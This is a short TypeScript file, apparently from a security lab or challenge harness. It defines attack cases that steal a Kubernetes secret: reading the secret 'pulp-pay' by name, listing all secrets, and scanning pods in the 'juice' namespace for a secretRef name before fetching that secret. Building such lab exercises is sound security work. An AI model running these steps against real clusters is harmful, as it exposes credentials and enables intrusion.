import type { Attack } from '#lab'
import { askApi, command, print, SECRETS, stealKey } from './steps.ts'

const attack = (name: string, line: string): Attack => ({
  challenge: 'clusterChallenge',
  name,
  run: async (tools) => stealKey(tools, line),
})

export const attacks: Attack[] = [
  attack('the secret by its name', askApi({ path: `${SECRETS}/pulp-pay` })),
  attack('a list of all secrets', askApi({ path: SECRETS })),
  {
    challenge: 'clusterChallenge',
    name: 'the name of the secret, found in the list of pods',
    run: async (tools) => {
      const pods = await print(tools, command(askApi({ path: '/api/v1/namespaces/juice/pods' })))
      const [, name] = /"secretRef":\s*\{\s*"name":\s*"(pulp[\w-]+)"/.exec(pods) ?? []
      tools.expect(name !== undefined, `the list of pods is ${pods.slice(0, 120)}`)
      await stealKey(tools, askApi({ path: `${SECRETS}/${name}` }))
    },
  },
]
